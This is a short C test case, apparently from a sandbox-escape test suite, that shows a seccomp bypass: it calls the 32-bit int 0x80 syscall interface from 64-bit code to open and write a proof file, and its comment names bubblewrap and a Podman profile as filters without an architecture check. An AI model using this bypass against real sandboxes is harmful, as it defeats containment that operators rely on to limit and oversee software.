#include "attack.h"
// 32-bit entry from 64-bit code: other numbers, so a filter without an architecture check lets all through. bubblewrap, Podman's profile leak.
ATTACK(.judge = "proof") {
  char *name = strcpy(low(8192), path(arg("work"), "proof")), *text = strcpy(name + 4096, arg("proof"));
  int fd = int80(5, (long)name, O_WRONLY | O_CREAT, 0644, 0, 0);
  int80(4, fd, (long)text, strlen(text), 0, 0);
}
